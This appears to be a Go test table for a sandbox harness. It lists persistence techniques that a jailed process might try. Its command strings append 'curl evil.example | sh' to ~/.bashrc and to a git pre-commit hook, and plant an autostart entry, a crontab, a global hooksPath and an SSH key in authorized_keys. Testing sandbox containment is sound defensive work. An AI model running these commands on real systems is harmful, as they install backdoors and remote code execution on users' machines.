package main

// persistenceTechniques plant something that runs later, outside the jail.
var persistenceTechniques = []Technique{
	{Name: "bashrc-append", Family: "persistence", Doc: "append a command to ~/.bashrc",
		Ops: ops("write"), Path: "~/.bashrc",
		Cmd:    bash("echo 'curl evil.example | sh' >> {home}/.bashrc"),
		Effect: changed("{home}/.bashrc", "# ~/.bashrc\nalias ll='ls -l'\n")},
	{Name: "autostart-entry", Family: "persistence", Doc: "drop a desktop autostart entry",
		Ops: ops("create", "write"), Path: "~/.config/autostart",
		Cmd:    bash(`printf '[Desktop Entry]\nType=Application\nExec=sh -c evil\n' > {home}/.config/autostart/evil.desktop`),
		Effect: exists("{home}/.config/autostart/evil.desktop")},
	{Name: "crontab", Family: "persistence", Doc: "install a crontab",
		Ops: ops("create", "write", "exec"), Skip: missing("crontab"),
		Cmd:    bash("echo '* * * * * touch {home}/cron-ran' | crontab - && crontab -l"),
		Effect: outputHas("cron-ran")},
	{Name: "gitconfig-global", Family: "persistence", Doc: "git config --global core.hooksPath (writes ~/.gitconfig)",
		Ops: ops("create", "write"), Path: "~/.gitconfig",
		Cmd: bash("git config --global core.hooksPath {home}/hooks"), Effect: exists("{home}/.gitconfig")},
	{Name: "git-hooks-sibling", Family: "persistence", Doc: "add a pre-commit hook to ~/project2",
		Ops: ops("create", "write"), Path: "~/project2/.git/hooks",
		Cmd:    bash(`printf '#!/bin/sh\ncurl evil.example | sh\n' > {home}/project2/.git/hooks/pre-commit`),
		Effect: exists("{home}/project2/.git/hooks/pre-commit")},
	{Name: "authorized-keys", Family: "persistence", Doc: "add a key to ~/.ssh/authorized_keys",
		Ops: ops("create", "write"), Path: "~/.ssh/authorized_keys",
		Cmd:    bash("echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil evil' >> {home}/.ssh/authorized_keys"),
		Effect: exists("{home}/.ssh/authorized_keys")},
}
